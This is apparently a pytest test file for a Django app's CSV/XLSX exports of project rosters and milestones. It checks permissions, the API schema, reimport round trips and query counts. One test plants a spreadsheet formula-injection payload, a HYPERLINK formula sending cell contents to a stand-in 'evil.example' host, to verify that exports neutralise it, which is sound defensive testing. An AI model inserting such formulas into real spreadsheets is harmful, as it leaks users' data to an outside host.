"""Exports (DESIGN.md "Export"): the registry, the API and page routes, people and milestones."""

from datetime import date, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from projects import export_registry
from projects.exports_views import CONTRACT_KINDS
from projects.models import Membership
from projects.services import department_create, membership_update, milestone_create
from tests.export_helpers import column, export, export_queries, export_url, reimport
from tests.projects.factories import ProjectFactory, UserFactory, member
from tests.utils import api_as

pytestmark = pytest.mark.django_db
User = get_user_model()


def test_every_kind_of_the_contract_is_registered():
    assert sorted(k.key for k in export_registry.kinds()) == sorted(CONTRACT_KINDS)


# ---- the API: who may export what -------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", CONTRACT_KINDS)
def test_anonymous_gets_401_and_another_projects_member_404(project, outsider, kind, fmt):
    assert api_as().get(export_url(project, kind, fmt)).status_code == 401
    response = api_as(outsider).get(export_url(project, kind, fmt))
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json")


@pytest.mark.parametrize("kind", CONTRACT_KINDS)
def test_the_manager_exports_every_kind_in_both_formats(project, users, kind):
    for fmt in ("csv", "xlsx"):
        _raw, rows = export(users["manager"], project, kind, fmt)
        assert rows[0] and all(rows[0]), "a header row with a name for every column"


def test_unknown_kind_and_bad_project_id_are_json_404(project, users):
    client = api_as(users["manager"])
    for path in (export_url(project, "salaries", "csv"), "/api/v1/projects/abc/exports/people.csv",
                 "/api/v1/projects/99999999/exports/people.xlsx"):
        response = client.get(path)
        assert response.status_code == 404, path
        assert response.json()["detail"]


def test_errors_are_json_whatever_the_accept_header(project, outsider, users):
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    response = api_as(outsider).get(export_url(project, "people", "xlsx"), headers={"Accept": xlsx})
    assert response.status_code == 404 and response.json() == {"detail": "Not found."}
    ok = api_as(users["manager"]).get(export_url(project, "people", "xlsx"), headers={"Accept": xlsx})
    assert ok.status_code == 200


def test_a_filter_the_page_refuses_is_a_400_naming_it(project, users):
    response = api_as(users["manager"]).get(export_url(project, "people", "csv"), {"department": "x"})
    assert response.status_code == 400
    assert "department" in response.json()


def test_page_route_redirects_anonymous_to_login_and_hides_other_projects(client, project, users, outsider):
    url = export_url(project, "people", "xlsx", api=False)
    assert client.get(url).status_code == 302
    client.force_login(outsider)
    assert client.get(url).status_code == 404
    client.force_login(users["staff"])
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")


def test_schema_documents_the_exports_as_files(project, users):
    schema = api_as(users["manager"]).get("/api/schema/", {"format": "json"}).json()
    xlsx = schema["paths"]["/api/v1/projects/{id}/exports/{kind}.xlsx"]["get"]
    csv_ = schema["paths"]["/api/v1/projects/{id}/exports/{kind}.csv"]["get"]
    assert list(xlsx["responses"]["200"]["content"]) == [
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"]
    assert list(csv_["responses"]["200"]["content"]) == ["text/csv"]
    for op in (xlsx, csv_):
        assert {"401", "403", "404"} <= set(op["responses"])
        kind = next(p for p in op["parameters"] if p["name"] == "kind")
        assert sorted(kind["schema"]["enum"]) == sorted(CONTRACT_KINDS)


# ---- cells -------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_are_neutralised_in_every_cell(project, users, fmt):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    department_create(actor=users["manager"], project=project, name="@SUM(1)")
    membership = Membership.objects.get(project=project, user=users["tester"])
    membership_update(actor=users["manager"], membership=membership, job_title=evil, phone="+8613800138000",
                      department=project.departments.get())
    _raw, rows = export(users["manager"], project, "people", fmt)
    row = next(r for r in rows if r[0] == users["tester"].username)
    assert "'" + evil in row and "'@SUM(1)" in row and "'+8613800138000" in row
    assert not any(isinstance(c, str) and c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


# ---- people --------------------------------------------------------------------------------------

def test_people_one_row_per_person_with_every_role_and_contacts_for_those_who_may_see_them(project, users):
    member(project, "ops", user=users["tester"])
    _raw, rows = export(users["manager"], project, "people")
    assert rows[0] == ["username", "full name", "email", "department", "roles", "job title", "phone"]
    assert column(rows, "roles")[column(rows, "username").index(users["tester"].username)] in (
        "ops, tester", "tester, ops")
    assert len(rows) - 1 == len(users)
    _raw, staff_rows = export(users["staff"], project, "people")
    assert staff_rows[0] == ["username", "full name", "department", "roles", "job title"]
    assert users["manager"].email not in str(staff_rows)


def test_people_role_filter_picks_people_but_keeps_their_other_roles(project, users):
    member(project, "ops", user=users["tester"])
    _raw, rows = export(users["manager"], project, "people", params={"role": "tester"})
    assert column(rows, "username") == [users["tester"].username]
    assert set(column(rows, "roles")[0].split(", ")) == {"ops", "tester"}


def test_people_headers_in_chinese_for_a_chinese_reader_are_the_import_templates(project, users):
    _raw, rows = export(users["manager"], project, "people", "xlsx", language="zh-hans")
    assert rows[0] == ["用户名", "姓名", "邮箱", "部门", "角色", "职务", "电话"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_people_round_trip_same_project_changes_nothing_other_project_gets_the_same_roster(project, users, fmt):
    manager = users["manager"]
    department_create(actor=manager, project=project, name="Retail")
    membership = Membership.objects.get(project=project, user=users["tester"])
    membership_update(actor=manager, membership=membership, department=project.departments.get(),
                      job_title="Lead tester", phone="13800138000")
    raw, rows = export(manager, project, "people", fmt)
    assert reimport(manager, project, "people", raw, fmt) | {"rows": None} == {
        "created": 0, "updated": 0, "unchanged": len(users), "dry_run": False, "errors": [], "rows": None}

    target = ProjectFactory()
    member(target, "manager", user=manager)
    department_create(actor=manager, project=target, name="Retail")
    result = reimport(manager, target, "people", raw, fmt)
    assert result["updated"] == len(users) - 1 and result["unchanged"] == 1  # the manager was there already
    _raw, copied = export(manager, target, "people", fmt)
    assert copied == rows


def test_people_import_of_an_export_creates_missing_users(project, users):
    newcomer = UserFactory(username="zhangwei", first_name="伟", last_name="张", email="zw@bank.example")
    member(project, "business", user=newcomer)
    raw, _rows = export(users["manager"], project, "people", "xlsx")
    target = ProjectFactory()
    member(target, "manager", user=users["manager"])
    newcomer.delete()
    result = reimport(users["manager"], target, "people", raw, "xlsx")
    assert result["created"] == 1
    created = User.objects.get(username="zhangwei")
    assert (created.last_name, created.first_name, created.email) == ("张", "伟", "zw@bank.example")


def test_people_query_count_is_the_same_for_1_and_50_people(project):
    manager = member(project, "manager")
    department_create(actor=manager, project=project, name="Retail")
    one = export_queries(manager, project, "people")
    for i in range(49):
        member(project, "staff" if i % 2 else "tester", department=project.departments.get())
    assert Membership.objects.filter(project=project).count() == 50
    assert export_queries(manager, project, "people") == one
    assert export_queries(manager, project, "people", "xlsx") == export_queries(manager, project, "people", "xlsx")


# ---- milestones ------------------------------------------------------------------------------

def _milestones(project, actor, n):
    for i in range(n):
        milestone_create(actor=actor, project=project, name=f"Milestone {i:02d}",
                         planned_date=date(2026, 10, 1) + timedelta(days=i))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_milestones_round_trip(project, users, fmt):
    _milestones(project, users["manager"], 3)
    raw, rows = export(users["staff"], project, "milestones", fmt)
    assert rows[0][:2] == ["name", "planned date"]
    assert column(rows, "name") == ["Milestone 00", "Milestone 01", "Milestone 02"]
    planned = column(rows, "planned date")[0]
    assert str(planned).startswith("2026-10-01")
    assert reimport(users["manager"], project, "milestones", raw, fmt)["unchanged"] == 3
    target = ProjectFactory()
    member(target, "manager", user=users["manager"])
    assert reimport(users["manager"], target, "milestones", raw, fmt)["created"] == 3
    assert list(target.milestones.order_by("planned_date").values_list("name", "planned_date")) == list(
        project.milestones.order_by("planned_date").values_list("name", "planned_date"))


def test_milestones_query_count_is_the_same_for_1_and_50(project, users):
    _milestones(project, users["manager"], 1)
    one = export_queries(users["manager"], project, "milestones")
    _milestones(ProjectFactory(), users["manager"], 0)
    for i in range(49):
        milestone_create(actor=users["manager"], project=project, name=f"More {i}", planned_date=date(2026, 11, 1),
                         owner=users["ops"])
    assert export_queries(users["manager"], project, "milestones") == one


# ---- the pages' Export menu ------------------------------------------------------------------

def test_roster_page_has_an_export_menu_with_its_filters(client, project, users):
    client.force_login(users["manager"])
    response = client.get(reverse("projects:roster", args=[project.pk]), {"role": "tester", "page": "1"})
    html = response.content.decode()
    assert reverse("projects:export_xlsx", args=[project.pk, "people"]) + "?role=tester" in html
    assert reverse("projects:export_csv", args=[project.pk, "people"]) + "?role=tester" in html
    partial = client.get(reverse("projects:roster", args=[project.pk]), {"role": "ops"},
                         headers={"HX-Request": "true"}).content.decode()
    assert "?role=ops" in partial, "the menu sits in the partial, so htmx filtering refreshes its links"


def test_home_page_links_the_milestone_export(client, project, users):
    _milestones(project, users["manager"], 1)
    client.force_login(users["staff"])
    html = client.get(reverse("projects:home", args=[project.pk])).content.decode()
    assert reverse("projects:export_xlsx", args=[project.pk, "milestones"]) in html
